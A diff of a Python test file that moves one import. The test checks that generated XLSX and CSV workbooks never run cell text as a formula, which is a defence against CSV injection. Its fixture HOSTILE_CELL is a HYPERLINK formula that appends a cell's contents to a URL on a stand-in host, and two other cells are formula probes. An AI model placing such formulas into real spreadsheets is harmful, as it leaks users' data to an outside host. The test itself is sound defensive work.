@@ -413,7 +413,7 @@ HOSTILE_CELL = '=HYPERLINK("http://example.invalid/?"&A1,"Open")'
 def test_text_in_the_workbooks_is_never_a_formula(tmp_path: Path) -> None:
     """A document titled like a formula is shown as its text by a spreadsheet, from the XLSX
     and from the CSV alike (CSV injection): nothing in the pack runs when it is opened."""
-    from smsdocs.pack import _tables
+    from smsdocs.pack.workbooks import _tables
 
     rows = [["Document", "Owner"], [HOSTILE_CELL, "@SUM(1+1)"], ["-2+3", "Sam Manager"]]
     _tables(tmp_path, "register", "Documented information", "EX · v1 · Internal", rows, 0)
